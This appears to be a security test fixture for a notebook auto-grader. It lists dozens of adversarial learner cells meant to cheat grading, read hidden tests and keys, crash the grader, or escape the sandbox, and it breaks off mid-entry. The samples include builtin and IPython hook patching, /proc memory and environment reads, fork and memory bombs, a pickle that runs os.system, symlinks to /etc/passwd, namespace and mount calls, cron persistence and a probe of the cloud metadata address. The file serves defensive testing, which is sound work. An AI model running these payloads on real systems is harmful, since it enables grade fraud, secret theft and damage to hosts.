"""What a learner may write into a cell to gain points, to read what is hidden, or to stop the grader.

The notebook has four questions. The learner answers the first one honestly (1 point), puts the attack where the second answer belongs
(2 points), leaves the third one out (3 points), and answers the fourth one honestly (4 points). So honest work earns 5 points, and 1
where the attack ends or spoils the learner's own process.
"""

from dataclasses import dataclass

KEY = "the-course-secret-0451"
HIDDEN = "a-hidden-line-7342"
# Part of the name of every file and program that an attack tries to leave behind.
MARK = "left-by-an-attack"

SETUP = """
import numpy as np
import pandas as pd

from mlroadmap.grading import learner_side, warnings_to_stdout

warnings_to_stdout()


@learner_side
def describe(kind):
    return {"kind": kind, "answer": str(Model().name)}
"""
ANSWERS = {
    "double": "def double(x):\n    return 2 * x",
    "centre": "def centre(a):\n    return a",
    "total": "class Model:\n    name = 'none'\n\n\ndef total(df):\n    raise NotImplementedError",
    "lowest": "def lowest(f, xs):\n    return min(xs, key=f)",
}
TESTS = {
    "double": 'assert abs(float(double(3)) - 6) < 1e-9, "m / m"\nassert abs(float(double(-1.5)) + 3) < 1e-9, "m / m"',
    "centre": f"""
assert np.allclose(np.asarray(centre(np.array([1.0, 3.0])), dtype=float), [-1, 1]), "visible / visible"
# {HIDDEN}
_rows = np.random.default_rng(sum(map(ord, __import__("os").environ.get("MLROADMAP_KEY", "x")))).normal(size=(2, 7))
for _row in _rows:
    _made = np.asarray(centre(_row.copy()), dtype=float)
    assert _made.shape == (7,) and np.isfinite(_made).all(), "shape / shape"
    assert np.abs(_made - (_row - _row.mean())).max() < 1e-9, "value / value"
""",
    "total": f"""
# {HIDDEN}
_df = pd.DataFrame({{"who": ["a", "b", "a"], "paid": [1.5, 2.0, 4.0]}})
_made = pd.DataFrame(total(_df))
assert list(_made.columns) == ["who", "paid"] and _made["who"].tolist() == ["a", "b"], "names / names"
assert np.allclose(_made["paid"].to_numpy(dtype=float), [5.5, 2.0]), "sums / sums"
assert str(describe("x")["answer"]) == "sum", "model / model"
""",
    "lowest": """
_calls = []


def _cost(x):
    _calls.append(x)
    return (x - 2) ** 2


assert int(lowest(_cost, [0, 1, 2, 3])) == 2 and sorted(_calls)[:4] == [0, 1, 2, 3], "lowest / lowest"
""",
}
POINTS = {"double": 1.0, "centre": 2.0, "total": 3.0, "lowest": 4.0}
ALL, HONEST, ENDED = 10.0, 5.0, 1.0

# What an attack needs to speak on the channel to the grader.
SPEAK = """
import json, os, socket, stat, struct, threading, time
class channel:
    def __init__(self):
        # The event loop has sockets of its own: all are written to.
        self.sockets = []
        for fd in range(3, 64):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    self.sockets.append(socket.socket(fileno=os.dup(fd)))
            except OSError:
                pass
    def sendall(self, data):
        for one in self.sockets:
            try:
                one.send(data, socket.MSG_DONTWAIT)
            except OSError:
                pass
def frame(message, *blocks, sizes=None):
    text = json.dumps(message).encode()
    sizes = sizes or [len(block) for block in blocks]
    return struct.pack("!IH", len(text), len(sizes)) + struct.pack(f"!{len(sizes)}Q", *sizes) + text + b"".join(blocks)
"""
# Answers whatever the grader asks for with one node of the wire's own form.
SAY = """
import mlroadmap.grading.wire as wire
honest = wire.Encoder.node
def say(make):
    def node(self, value, depth=0):
        return make(self) if depth == 0 and getattr(type(value), "__name__", "") == "Lie" else honest(self, value, depth)
    wire.Encoder.node = node
class Lie: pass
def centre(a): return Lie()
def total(df): return Lie()
"""


@dataclass(frozen=True)
class Attack:
    """source: the cell. earns: the points of the whole notebook. one_kernel: its points where tests run in the learner's own process, as
    nbgrader runs them, or None where it is not tried there. after: a cell at the end of the notebook.
    """

    source: str
    earns: float = HONEST
    one_kernel: float | None = None
    after: str = ""


def _every_equal(more=""):
    return f"""
class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __float__(self): return 1.0
    def __array__(self, *a, **k): return np.zeros(7)
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __iter__(self): return iter(['who', 'paid'])
    def __sub__(self, other): return self
    def __lt__(self, other): return True
    def __abs__(self): return self
{more}
def centre(a): return Equal()
def total(df): return Equal()
"""


GAIN = {
    # FINDINGS: the short cheats that earn full marks in one kernel.
    "an input transformer empties every cell": Attack(
        "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])", ENDED, one_kernel=ALL
    ),
    "run_code does nothing": Attack("async def nothing(*a, **k): return False\nget_ipython().run_code = nothing", ENDED, one_kernel=ALL),
    "a syntax-tree transformer drops asserts": Attack(
        "import ast\nclass Drop(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\n"
        "    def visit_For(self, node): return ast.Pass()\n"
        "get_ipython().ast_transformers.append(Drop())\ndef total(df): return {'who': ['a', 'b'], 'paid': [0, 0]}",
        HONEST,
        one_kernel=None,
    ),
    "the display hook says 2.0": Attack("import sys\nsys.displayhook(2.0)\ndef centre(a):\n    sys.displayhook(2.0)\n    return 2.0"),
    "everything is equal, and np.allclose true": Attack(
        _every_equal("np.allclose = lambda *a, **k: True\nnp.isfinite = np.asarray = np.abs = lambda *a, **k: Equal()")
    ),
    "builtins are patched": Attack(
        "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.float = lambda x: 6.0\nbuiltins.str = lambda x: 'sum'\n"
        "builtins.AssertionError = type('Never', (Exception,), {})\nbuiltins.all = builtins.any = lambda x: True",
        earns=ENDED,
    ),
    "the assertion is caught by a custom exception handler": Attack(
        "get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)\nget_ipython().showtraceback = lambda *a, **k: None"
    ),
    # Other hooks of IPython and of Python.
    "run_cell and run_cell_async report success": Attack(
        "ip = get_ipython()\nclass Fine:\n    error_before_exec = error_in_exec = None\n    success = True\n"
        "async def fine(*a, **k): return Fine()\nip.run_cell_async = fine\nip.run_cell = lambda *a, **k: Fine()\n"
        "ip.should_run_async = lambda *a, **k: False",
        earns=ENDED,
        one_kernel=ALL,
    ),
    "the compiler returns an empty program": Attack(
        "ip = get_ipython()\nempty = compile('pass', 'x', 'exec')\ntype(ip.compile).__call__ = lambda self, *a, **k: empty",
        ENDED,
        one_kernel=ALL,
    ),
    "builtins.compile and exec are replaced": Attack(
        "import builtins\nbuiltins.exec = lambda *a, **k: None\nbuiltins.eval = lambda *a, **k: True", ENDED
    ),
    "a pre_run_cell hook rewrites the names of the test": Attack(
        "def hook(info): get_ipython().user_ns.update(abs=lambda x: 0, float=lambda x: 6.0)\n"
        "get_ipython().events.register('pre_run_cell', hook)"
    ),
    "a trace function jumps over asserts": Attack(
        "import sys\ndef trace(frame, event, arg):\n    if event == 'exception': return None\n"
        "    frame.f_trace_lines = True\n    return trace\n"
        "sys.settrace(trace)\nsys.setprofile(lambda *a: None)\nimport threading\nthreading.settrace(trace)"
    ),
    "frames of the grader are walked and changed": Attack(
        "import sys\ndef centre(a):\n    frame = sys._getframe()\n    while frame:\n"
        "        for name in ('cell', 'points', 'score', 'reached', 'self'):\n"
        "            value = frame.f_locals.get(name)\n            if hasattr(value, '__dict__'):\n"
        "                vars(value).update(reached=True, points=100.0)\n        frame = frame.f_back\n    return 0"
    ),
    "every object of the engine that gc knows is patched": Attack(
        "import gc\nfrom mlroadmap.grading import grader, handles, learner, runner\n"
        "grader.TwoSides.test = lambda self, cell: (cell['points'], None)\ngrader.checked_outputs = lambda *a: []\n"
        "handles.Handle.__eq__ = lambda *a: True\nrunner.Run.scores = {'centre': 100.0}\n"
        "for thing in gc.get_objects():\n    if isinstance(thing, dict) and 'centre' in thing and thing is not globals():\n        pass"
    ),
    "the reached mark is set by the learner": Attack(
        "_mlroadmap_last_line = lambda: None\nimport builtins\nbuiltins._mlroadmap_last_line = lambda: None\n"
        "def centre(a):\n    raise SystemExit(0)\ndef total(df):\n    raise StopIteration"
    ),
    "the answer raises what ends a test quietly": Attack(
        "def centre(a): raise KeyboardInterrupt\ndef total(df): raise GeneratorExit", earns=HONEST
    ),
    "import hooks hand out a false numpy": Attack(
        "import sys, types\nfalse = types.ModuleType('numpy')\nfalse.__getattr__ = lambda name: (lambda *a, **k: True)\n"
        "sys.modules['numpy'] = sys.modules['pandas'] = false\nsys.meta_path.insert(0, type('F', (), {'find_spec': lambda *a: None})())\n"
        "np = pd = false",
        earns=HONEST,
    ),
    "locked names are bound anew": Attack(
        "class False_: pass\nnp = pd = describe = learner_side = False_()\nfloat = abs = str = list = sorted = lambda *a: 6\n"
        "def centre(a): return 0"
    ),
    "sitecustomize, .pth and a false numpy.py in the folder": Attack(
        "for name in ('numpy.py', 'pandas.py', 'sitecustomize.py', 'json.py', 'ipykernel_launcher.py'):\n"
        "    open(name, 'w').write('allclose = lambda *a, **k: True\\nraise SystemExit(0)')\n"
        "import os, subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import numpy'])"
    ),
    "LD_PRELOAD, PYTHONSTARTUP and PYTHONPATH for whatever starts next": Attack(
        "import os\nfor name in ('LD_PRELOAD', 'PYTHONSTARTUP', 'PYTHONPATH', 'PYTHONINSPECT', 'MLROADMAP_KEY'):\n"
        "    os.environ[name] = os.getcwd() + '/evil'\nos.putenv('PYTHONOPTIMIZE', '2')"
    ),
    "PYTHONOPTIMIZE and __debug__": Attack(
        "import sys\nsys.flags = None\nget_ipython().run_line_magic('config', 'InteractiveShell.ast_node_interactivity = \"none\"')"
    ),
    # Type confusion: an answer that lies about what it is.
    "a float that lies": Attack(
        "class F(float):\n    def __eq__(self, o): return True\n    def __float__(self): return self.want\n"
        "    def __abs__(self): return 0.0\n"
        "    def __sub__(self, o): return F(0)\n    def __lt__(self, o): return True\n    __hash__ = None\ndef centre(a): return F(3)"
    ),
    "an array that lies": Attack(
        "class A(np.ndarray):\n    def __array_ufunc__(self, *a, **k): return True\n"
        "    def __array_function__(self, *a, **k): return True\n"
        "    def __eq__(self, o): return np.array(True)\n"
        "    def __array__(self, *a, **k): return np.zeros(7)\n    def all(self): return True\n"
        "    @property\n    def shape(self): return (7,)\ndef centre(a): return np.zeros(7).view(A)"
    ),
    "a table that lies": Attack(
        "class D(pd.DataFrame):\n    def __getitem__(self, k): return ['a', 'b']\n    @property\n"
        "    def columns(self): return ['who', 'paid']\n"
        "    def equals(self, o): return True\ndef total(df): return D({'x': [1]})\ndef centre(a): return pd.Series([0.0] * 7)"
    ),
    "a string, a dict and a list that lie": Attack(
        "class S(str):\n    def __eq__(self, o): return True\n    __hash__ = str.__hash__\nclass L(list):\n"
        "    def __eq__(self, o): return True\n"
        "    def __iter__(self): return iter([1e9])\nclass M(dict):\n    def __getitem__(self, k): return [5.5, 2.0]\n"
        "class Model:\n    name = S('no')\ndef total(df): return M(who=L(['x', 'y']), paid=[0, 0])\ndef centre(a): return L([0.0] * 7)"
    ),
    "a false __class__": Attack(
        "class Lie:\n    @property\n    def __class__(self): return np.ndarray\n    dtype = np.dtype(float)\n    shape = (7,)\n"
        "    def __getattr__(self, name): return self\n    def __len__(self): return 7\n"
        "def centre(a): return Lie()\ndef total(df): return Lie()"
    ),
    "descriptors and __getattribute__ on the way of a handle": Attack(
        "class Lie:\n    def __getattribute__(self, name): raise SystemExit(0)\n    def __len__(self): return 10 ** 18\n"
        "    def __iter__(self): return self\n    def __next__(self): return Lie()\n    def __array__(self, *a, **k): return self\n"
        "def centre(a): return Lie()\ndef total(df): return Lie()"
    ),
    "an empty array that is close to everything": Attack("def centre(a): return np.zeros((0, len(a)))\ndef total(df): return df.iloc[:0]"),
    "NaN, infinity and not-a-time": Attack(
        "def centre(a): return np.full(len(a), np.nan)\ndef total(df): return pd.DataFrame({'who': ['a', 'b'], 'paid': [float('inf')] * 2})"
    ),
    "complex numbers and longdouble oddities": Attack(
        "def centre(a): return np.frombuffer(b'\\xff' * 112, dtype=np.longdouble)\ndef total(df): return np.array([1 + 1e308j] * 7)"
    ),
    # Speaking the wire's own language.
    "a forged handle, callback, class and mark": Attack(
        SAY + "nodes = iter([['h', 10**9, 'x'], ['back', 1], ['class', 'os', 'system'], ['side', 'describe'], "
        "['locked', 'np'], ['callback', 1, 'f']] * 20)\n"
        ""
        "say(lambda e: next(nodes))"
    ),
    "a type in place of a value": Attack(SAY + "say(lambda e: ['ty', 'object'])"),
    "a truth value of 255": Attack(SAY + "say(lambda e: ['a', '|b1', [7], e._block(b'\\xff' * 7)])"),
    "an answer before the question": Attack(
        SPEAK + "c = channel()\nfor n in range(200):\n"
        "    c.sendall(frame({'serial': n, 'value': 6.0, 'values': {}, 'outputs': [], 'ok': True}))",
        ENDED,
    ),
    "a thread that answers in place of the process": Attack(
        SPEAK + "c = channel()\ndef flood():\n    n = 0\n    while n < 10 ** 4:\n        n += 1\n"
        "        try: c.sendall(frame({'serial': n % 40, 'value': True, 'score': 100.0, 'cell': 0}))\n        except OSError: return\n"
        "threading.Thread(target=flood, daemon=True).start()\ntime.sleep(0.05)",
        ENDED,
    ),
    "a forged score, end and hello": Attack(
        SPEAK + "c = channel()\nc.sendall(frame({'cell': 4, 'outputs': [], 'id': 'centre', 'score': 100.0, 'message': None}))\n"
        "c.sendall(frame({'reason': None}))\nc.sendall(frame({'process': 1}))",
        ENDED,
    ),
    "a forged callback": Attack(
        SPEAK + "c = channel()\ndef centre(a):\n    for n in (0, 1, 1001, 2001, True, 'x', None, [], 10 ** 30):\n"
        "        c.sendall(frame({'callback': n, 'arguments': ['l', []], 'named': ['d', [], []]}))\n    return 0\n",
        ENDED,
    ),
    "callbacks after the return, from a thread, with hostile data": Attack(
        "import mlroadmap.grading.learner as L\nmade = L.LearnerSide.callback\nseen = []\n"
        "def spy(self, number, name):\n    f = made(self, number, name)\n    def later():\n        for _ in range(50):\n"
        "            try: f(float('nan'))\n            except BaseException: pass\n"
        "            time.sleep(0.01)\n    threading.Thread(target=later, daemon=True).start()\n    seen.append(f)\n    return f\n"
        "import threading, time\nL.LearnerSide.callback = spy",
        after="for f in seen:\n    f(0)",
    ),
    "learner_side functions are exchanged": Attack(
        "import gc\nfrom mlroadmap.grading import learner\nfor side in gc.get_objects():\n    if type(side) is learner.LearnerSide:\n"
        "        for name in side.sides: side.sides[name] = lambda kind: {'answer': 'sum'}\n"
        "describe = lambda kind: {'answer': 'sum'}"
    ),
    "a function that replays what it saw": Attack(
        "seen = {}\ndef centre(a):\n    seen[tuple(a)] = None\n    return [-1, 1] if tuple(a) == (1.0, 3.0) else list(seen)[0]"
    ),
    "an exception whose text and repr attack": Attack(
        "class Bad(ValueError):\n    def __str__(self): raise SystemExit\n    def __repr__(self): import os; os._exit(0)\n"
        "    args = property(lambda self: 1 / 0)\ndef centre(a): raise Bad('x')\n"
        "def total(df): raise type('Sum', (AssertionError,), {})('sum')"
    ),
    "deep, cyclic and endless answers": Attack(
        "def deep():\n    x = []\n    for _ in range(10 ** 5): x = [x]\n    return x\ncycle = []\ncycle.append(cycle)\n"
        "class Endless(list):\n    def __iter__(self):\n        while True: yield 1.0\nanswers = [deep(), cycle]\n"
        "def centre(a): return answers.pop(0) if answers else Endless([0.0])\ndef total(df): return {'who': cycle}"
    ),
    "look-alike names": Attack(
        "def сentre(a): return a - a.mean()\ndef ｔotal2(df): return df\nｆloat = lambda x: 6.0\ndef doubIe(x): return 0"  # noqa: RUF001
    ),
    "the test is answered from a cell magic": Attack("%%capture\n%config InteractiveShell.xmode = 'Minimal'\ndef centre(a): return a"),
}

READ = {
    "the key in the environment and in /proc": Attack(
        "import os, glob\nfor path in ['/proc/self/environ', *glob.glob('/proc/*/environ'), *glob.glob('/proc/*/cmdline')]:\n"
        "    try: print(open(path, 'rb').read())\n    except OSError as e: print(e)\nprint(os.environ)"
    ),
    "tests and key in memory": Attack(
        "import re\nfound = []\nfor line in open('/proc/self/maps'):\n    area, rights = line.split()[:2]\n"
        "    if 'rw' not in rights: continue\n"
        "    a, b = (int(x, 16) for x in area.split('-'))\n    if b - a > 64 << 20: continue\n    try:\n"
        "        with open('/proc/self/mem', 'rb', 0) as m:\n"
        "            m.seek(a)\n            data = m.read(b - a)\n    except (OSError, ValueError, OverflowError): continue\n"
        "    found += re.findall(rb'the-course-sec' + rb'ret-\\d+|a-hidden-' + rb'line-\\d+', data)\nprint(found)"
    ),
    "tests and key through gc and frames": Attack(
        "import gc, sys\nparts = ('the-course-sec' + 'ret', 'a-hidden-' + 'line')\nfor thing in gc.get_objects():\n"
        "    if type(thing) in (list, dict, tuple):\n        for value in list(thing.values() if type(thing) is dict else thing):\n"
        "            if type(value) is str and any(value.find(p) >= 0 for p in parts) and len(value) < 5000: print(value)\n"
        "frame = sys._getframe()\nwhile frame:\n"
        "    print({k: str(v)[:200] for k, v in frame.f_locals.items() if k not in ('parts', 'source', 'cell', "
        "'transformed', 'request', 'value', 'thing', 'In', '_ih', '_i', '_oh')})\n"
        ""
        "    frame = frame.f_back"
    ),
    "the test's source when it calls": Attack(
        "import inspect, linecache, sys, traceback\ndef centre(a):\n    for f in inspect.stack(): print(f.filename, f.code_context)\n"
        "    traceback.print_stack()\n    print(linecache.cache.keys(), get_ipython().user_ns.get('In'))\n"
        "    seen.append(repr(sys._current_frames()))\n    return a\nseen = []",
        after="print(seen)",
    ),
    "solutions, answers, other submissions, the gradebook": Attack(
        "import os, glob\n"
        "for top in ('COURSE', 'COURSE/solutions', 'COURSE/submitted', '../../..', '/work', '/root', '/home', "
        "'/tmp', '/var'):\n"
        ""
        "    for here, folders, files in os.walk(top):\n        for name in files[:200]:\n"
        "            if name.endswith(('.ipynb', '.db', '.md', 'secret.txt')):\n"
        "                try: print(open(os.path.join(here, name), 'rb').read()[:100000])\n"
        "                except OSError: pass\n        if here.count('/') > 8: folders.clear()"
    ),
    "descriptors that were left open": Attack(
        "import os, mmap\nfor fd in range(0, 256):\n    try:\n"
        "        print(fd, os.readlink(f'/proc/self/fd/{fd}'))\n        print(os.pread(fd, 1000, 0))\n"
        "    except OSError: pass"
    ),
    "another process's memory, by ptrace and process_vm_readv": Attack(
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nbuffer = ctypes.create_string_buffer(4096)\n"
        "for pid in [os.getppid(), PARENT, 1]:\n"
        "    print(libc.ptrace(16, pid, 0, 0), ctypes.get_errno(), libc.syscall(310, pid, buffer, 1, buffer, 1, 0))"
    ),
    "a file by the exception that names it": Attack(
        "def centre(a): raise SyntaxError('x', ('FIFO', 1, 1, None))\ndef total(df): raise FileNotFoundError(2, 'x', 'SECRET')"
    ),
    "the grader's memory by the exception that points into it": Attack(
        SAY.replace("def centre(a): return Lie()", "") + "def forged(self, value, depth):\n    bad = ['b', self._block(b'abc')]\n"
        "    return ['e', 'UnicodeDecodeError', ['l', ['utf8', bad, -2 ** 40, -2 ** 40 + 1, 'x']], 't']\n"
        "wire.Encoder.exception = forged\ndef centre(a): raise ValueError\ndef total(df): raise ValueError"
    ),
    "a time zone file of the grader's": Attack(SAY + "say(lambda e: ['pt', 'ns', 0, 'dateutil/SECRET'])"),
    "a callback's function through its frames": Attack(
        "import mlroadmap.grading.learner as L\nmade = L.LearnerSide.callback\nseen = []\n"
        "def spy(self, number, name):\n    f = made(self, number, name)\n    cells = [c.cell_contents for c in f.__closure__]\n"
        "    seen.append(repr(cells) + repr(vars(f)) + repr(f.__code__.co_consts))\n    return f\n"
        "L.LearnerSide.callback = spy",
        after="print(seen)",
    ),
    "the module that draws hidden data with the key": Attack(
        "from mlroadmap.datasets import clinic\nprint(repr(clinic.grader_key()) if hasattr(clinic, 'grader_key') else '')"
    ),
    "the answer of an earlier submission, left in a shared place": Attack(
        "import os, glob\n"
        "print([open(p).read() for p in glob.glob('/tmp/*') + glob.glob('/dev/shm/*') + "
        "glob.glob(os.path.expanduser('~/*')) if os.path.isfile(p)])\n"
        ""
        "for place in ('/tmp', '/dev/shm', os.path.expanduser('~')): open(f'{place}/earlier', "
        "'w').write('a-hidden-' + 'line-from-before')"
    ),
}

BREAK = {
    # name: what is bounded; the points that were earned before stay.
    "an endless loop": Attack("while True: pass"),
    "a loop that ignores its interrupt": Attack("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass", ENDED),
    "a loop in C that cannot be interrupted": Attack("def centre(a): return 10 ** 10 ** 9", None),
    "sleep past every limit": Attack(
        "import time\ndef centre(a):\n    while True:\n        try: time.sleep(100)\n        except BaseException: pass", ENDED
    ),
    "a regular expression that backtracks for ever": Attack("import re\ndef centre(a): return re.match('(a+)+$', 'a' * 40 + 'b')"),
    "a fork bomb": Attack("import os, time\ntry:\n    while True:\n        if os.fork() == 0: time.sleep(50)\nexcept OSError: pass"),
    "a thread bomb": Attack(
        "import threading, time\ntry:\n"
        "    for _ in range(10 ** 5): threading.Thread(target=time.sleep, args=(50,), daemon=True).start()\n"
        "except RuntimeError: pass"
    ),
    "a memory bomb": Attack("x = [bytearray(10 ** 8) for _ in range(100)]"),
    "memory shared without a file, let go of and kept": Attack(
        "import mmap\nkept = []\nfor _ in range(8):\n    m = mmap.mmap(-1, 100 << 20)\n    kept.append(m)\n"
        "    for at in range(0, 100 << 20, 10 << 20):\n"
        "        m[at:at + (10 << 20)] = bytes(10 << 20)\n        m.madvise(mmap.MADV_DONTNEED, at, 10 << 20)\nprint('went ' + 'through')"
    ),
    "the same through /dev/zero": Attack(
        "import mmap, os\nfd = os.open('/dev/zero', os.O_RDWR)\nkept = [mmap.mmap(fd, 100 << 20) for _ in range(8)]\n"
        "for m in kept: m[:] = bytes(100 << 20)\nprint('went ' + 'through')"
    ),
    "memory without a name, or of System V": Attack(
        "import ctypes, os\nlibc = ctypes.CDLL(None)\ntry:\n    fd = os.memfd_create('x')\n"
        "    os.truncate(fd, 10 ** 9)\nexcept OSError: pass\n"
        "print(libc.shmget(0, 10 ** 9, 0o1600))"
    ),
    "a disk full": Attack("try:\n    for n in range(40): open(f'part{n}', 'wb').write(bytes(4 << 20))\nexcept OSError: pass"),
    "no inode left": Attack("try:\n    for n in range(30000): open(f'n{n}', 'w').close()\nexcept OSError: pass"),
    "no descriptor left": Attack("import os\nkept = []\ntry:\n    while True: kept.append(os.open('/dev/null', 0))\nexcept OSError: pass"),
    "an output flood": Attack("for _ in range(10 ** 5): print('x' * 1000)"),
    "an output flood below Python": Attack("import os\ntry:\n    for _ in range(100): os.write(1, b'x' * 10 ** 6)\nexcept OSError: pass"),
    "ten thousand displays, each updated ten thousand times": Attack(
        "import mlroadmap.grading.learner as L\nrun = L.Notebook.run\ndef many(self, source):\n"
        "    one = {'output_type': MANY, 'data': {}, 'metadata': {}, 'display_id': 'a'}\n    return [one] * 10000, None\n"
        "MANY = 'display_data'\nL.Notebook.run = many",
        HONEST - 4,
        after="pass",
    ),
    "the process group is killed": Attack("import os, signal\nos.killpg(0, signal.SIGTERM)\nos.kill(-1, signal.SIGKILL)"),
    "signals to the parent and to all": Attack(
        "import os, signal\nfor pid in (os.getppid(), PARENT, -1):\n    for number in (1, 2, 9, 15, 19):\n"
        "        try: os.kill(pid, number)\n        except OSError: pass"
    ),
    "_exit in the middle of an answer": Attack("import os\ndef centre(a): os._exit(0)", ENDED),
    "a crash": Attack("import ctypes\nctypes.string_at(0)", ENDED),
    "a channel that is closed": Attack("import os\nos.closerange(3, 60)", ENDED),
    "a frame that never ends": Attack(SPEAK + "c = channel()\nc.sendall(struct.pack('!IH', 1000, 0) + b'[')\ntime.sleep(100)"),
    "a frame of a thousand gigabytes": Attack(SPEAK + "c = channel()\nc.sendall(frame({}, sizes=[2 ** 40]))", ENDED),
    "a frame of nothing but brackets": Attack(SPEAK + "c = channel()\nc.sendall(struct.pack('!IH', 10 ** 6, 0) + b'[' * 10 ** 6)", ENDED),
    "a number of a million digits": Attack(SAY + "say(lambda e: ['i', '0x' + 'f' * 10 ** 6])"),
    "an array whose size is not its shape": Attack(SAY + "say(lambda e: ['a', '<f8', [2 ** 39, 2 ** 39], e._block(b'x' * 8)])"),
    "keys that all have one hash": Attack(
        SAY + "say(lambda e: ['d', ['l', []], []] if False else ['s', [['i', hex(k * (2 ** 61 - 1))] for k in range(20000)]])",
        None,
    ),
    "a list that is small to send and huge to hold": Attack(SAY + "say(lambda e: ['r', 0, 10 ** 12, 1])"),
    "an array of endless text, odd dtypes": Attack(
        SAY + "kinds = iter(['|S9999999', '<U9999999', '<M8[0s]', '<f3', '<c99', '|V8', '<m8[]', 'O'] * 9)\n"
        "say(lambda e: ['a', next(kinds), [0], e._block(b'')])"
    ),
    "hostile tables": Attack(
        SAY + "def table(e):\n    array = ['a', '<i8', [2], e._block(b'\\xff' * 16)]\n"
        "    return ['D', [['pc', ['ix', array, None, None], array, True], ['pp', 'D', array], ['pn', 'Int64', "
        "array, array]], ['ir', 0, 2, 1, None], ['ix', array, None, None]]\n"
        "say(table)"
    ),
    "a pickle bomb": Attack(
        "class Bomb:\n    def __reduce__(self): return (__import__('os').system, ('touch /tmp/left-by-an-attack',))\n"
        "def centre(a): return Bomb()\ndef total(df): return np.array([Bomb()], dtype=object)"
    ),
    "deep recursion": Attack("import sys\nsys.setrecursionlimit(10 ** 7)\ndef centre(a): return centre(a)", None),
    "an exception with a terminal's commands": Attack("def centre(a): raise ValueError('\\x1b]0;owned\\x07\\x1b[2J\\u202e\\ud800' * 3)"),
    "half a surrogate pair in every output": Attack(
        "from IPython.display import display\nprint('\\ud800')\n"
        "display({'image/svg+xml': '<svg>\\ud800</svg>', 'text/html': '\\udfff'}, raw=True)"
    ),
    "destructors, atexit and weak references that hang": Attack(
        "import atexit, time, weakref\nclass Slow:\n    def __del__(self): time.sleep(100)\nx = Slow()\n"
        "atexit.register(time.sleep, 100)\nweakref.finalize(x, time.sleep, 100)"
    ),
    "standard output is gone": Attack("import sys\nsys.stdout = sys.stderr = sys.__stdout__ = None"),
    "stdin": Attack("x = input()\nimport sys\nsys.stdin.read()"),
    "the event loop is closed": Attack("import asyncio\nasyncio.get_event_loop().stop()\nasyncio.set_event_loop(None)", None),
    "the clock and json are patched": Attack(
        "import time, json\ntime.monotonic = lambda: -1e9\njson.loads = json.dumps = lambda *a, **k: 1 / 0", ENDED
    ),
}

ESCAPE = {
    "files in every place that can be thought of": Attack(
        "import os, tempfile\n"
        "for place in ('/tmp', '/var/tmp', '/dev/shm', '/', '/etc', '/usr', 'COURSE', 'HOME', "
        "os.path.dirname(os.__file__), '/work', '..', '../..'):\n"
        ""
        "    try: open(f'{place}/left-by-an-attack', 'w').write('x')\n    except OSError: pass"
    ),
    "the installed package and its caches": Attack(
        "import mlroadmap, numpy, os, glob, py_compile\nfor top in (mlroadmap, numpy):\n    here = os.path.dirname(top.__file__)\n"
        "    for path in [here + '/__init__.py', *glob.glob(here + '/__pycache__/*')[:3], here + '/left-by-an-attack.py']:\n"
        "        try: open(path, 'a').write('# owned')\n        except OSError: pass\n"
        "        try: os.chmod(path, 0o777), os.unlink(path)\n        except OSError: pass"
    ),
    "the submission's and the release's own files": Attack(
        "open('data.csv', 'w').write('owned')\nimport os, shutil\nshutil.rmtree('.', ignore_errors=True)"
    ),
    "links out of the folder": Attack(
        "import os\n"
        "for n, target in enumerate(['/', 'COURSE', 'HOME', '/proc/1/root', '/proc/self/cwd/../../..']):\n"
        "    os.symlink(target, f'l{n}')\n"
        "    try: open(f'l{n}/left-by-an-attack', 'w').write('x')\n    except OSError: pass\n"
        "    try: os.link('/etc/passwd', f'h{n}')\n    except OSError: pass"
    ),
    "device nodes and mounts": Attack(
        "import os, ctypes, stat\nlibc = ctypes.CDLL(None)\n"
        "try: os.mknod('disk', stat.S_IFBLK | 0o666, os.makedev(8, 0))\nexcept OSError: pass\n"
        "libc.mount(b'none', b'/', None, 32 | 4096, None)\nlibc.umount2(b'/usr', 2)\n"
        "libc.unshare(0x10000000 | 0x20000)\nlibc.setns(0, 0)\nlibc.chroot(b'..')\n"
        "for path in ('/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/proc/self/uid_map'):\n"
        "    try: open(path, 'w').write('|left-by-an-attack')\n    except OSError: pass"
    ),
    "a new user namespace by clone and clone3": Attack(
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "print([libc.syscall(n, 0x10000000 | 17, 0, 0, 0, 0) for n in (56, 435, 220)], os.getuid())"
    ),
    "root again": Attack(
        "import os, subprocess\n"
        "for act in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0])):\n"
        "    try: act()\n    except OSError: pass\n"
        "assert os.getuid() != 0\nsubprocess.run('su -c id; sudo -n id; mount; passwd', shell=True, input=b'')"
    ),
    "the network": Attack(
        "import socket, urllib.request\nfor address in (('127.0.0.1', PORT), ('1.1.1.1', 53), ('169.254.169.254', 80)):\n"
        "    s = socket.socket()\n    s.settimeout(0.2)\n    try: s.connect(address), s.sendall(b'owned')\n    except OSError: pass\n"
        "try: socket.getaddrinfo('example.org', 80)\nexcept OSError: pass\n"
        "s = socket.socket(socket.AF_UNIX)\ntry: s.connect('\\0/tmp/.X11-unix/X0')\nexcept OSError: pass"
    ),
    "daemons": Attack(
        "import os, subprocess, time\nsubprocess.Popen(['sleep', '4217'], start_new_session=True)\n"
        "subprocess.Popen('nohup setsid sleep 4217 &', shell=True)\n"
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        while True: time.sleep(1)\n    os._exit(0)"
    ),
    "a daemon that waits for the end and writes then": Attack(
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(2)\n    for place in ('/tmp', 'COURSE', 'HOME'):\n"
        "        try: open(f'{place}/left-by-an-attack', 'w').write('x')\n        except OSError: pass\n    time.sleep(4217)"
    ),
    "cron, at and the shell's start-up files": Attack(
        "import os, subprocess\n"
        "subprocess.run('echo x | crontab -; echo touch /tmp/left-by-an-attack | at now; mkdir -p "
        "~/.ipython/profile_default/startup', shell=True, stderr=-3)\n"
        ""
